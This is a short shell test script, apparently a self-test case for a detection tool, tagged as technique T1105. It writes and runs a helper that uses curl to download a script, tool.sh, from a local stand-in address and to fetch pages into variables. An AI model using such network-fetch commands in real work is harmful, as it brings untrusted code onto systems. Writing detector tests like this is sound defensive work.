#!/bin/sh
# quiet: Script fetched into a pipe
# technique: T1105
# case: a script is fetched into a file, and a page of a name that ends so into a pipe
# needs: bash, curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
cat > fetch.sh <<'END'
curl -s -o tool.sh http://127.0.0.1:9/tool.sh 2>&1 | cat
v=$(curl -s http://127.0.0.1:9/index.html)
v=$(curl -s http://shop.example.pl/ --resolve shop.example.pl:80:127.0.0.1)
END
bash fetch.sh; true
